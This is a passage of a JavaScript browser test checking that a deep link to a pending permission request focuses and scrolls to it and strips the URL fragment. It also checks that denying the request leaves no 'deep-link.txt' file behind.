  assert.equal(await page.locator(`${selector} [data-testid="permission-allow"]`).count(), 1);

  // A page opened at the notification's address lands there too, and drops the fragment.
  const other = await context.newPage();
  await other.goto(`${server.base}/#request=${encodeURIComponent(id)}&session=default`);
  assert.equal(await waitAttr(other.locator(selector), 'data-focused', (v) => v === 'true'), 'true');
  assert.equal(await inView(other), true);
  assert.equal(new URL(other.url()).hash, '', 'the fragment is removed once handled');
  await other.close();

  await term.request({ type: 'respond', session: 'default', request_id: id, response: { behavior: 'deny' } });
  await term.wait((f) => f.type === 'event' && f.event.type === 'result', { from });
  assert.equal(existsSync(path.join(server.workdir, 'deep-link.txt')), false);
  assert.deepEqual(phone.page.errors, []);
});
